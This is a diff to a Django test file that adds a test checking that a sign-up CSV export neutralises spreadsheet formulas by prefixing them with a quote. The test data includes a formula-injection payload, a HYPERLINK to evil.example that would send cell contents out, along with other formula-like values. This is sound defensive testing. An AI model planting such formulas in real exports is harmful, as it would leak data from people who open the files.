@@ -794,6 +794,19 @@ def test_procesleder_lists_filters_and_exports_the_sign_ups(procesleder_client, 
 
 
 @pytest.mark.django_db
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(procesleder_client, temadag):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
+    SignUp.objects.create(
+        activity=temadag, name=formula, email="a@faxe.dk", workplace="@SUM(1+1)", comment="-2+3"
+    )
+    export = procesleder_client.get(f"/admin/tilmeldinger/?activity={temadag.pk}&export=csv")
+    content = b"".join(export.streaming_content).decode()
+    header, row = list(csv.reader(io.StringIO(content)))
+    assert (row[2], row[4], row[5]) == ("'" + formula, "'@SUM(1+1)", "'-2+3")
+    assert row[3] == "a@faxe.dk"
+
+
+@pytest.mark.django_db
 def test_procesleder_can_correct_and_delete_but_not_add_sign_ups(procesleder, index, temadag):
     signup = SignUp.objects.create(activity=temadag, name="A", email="a@faxe.dk", workplace="X")
     for action in ("view", "change", "delete"):
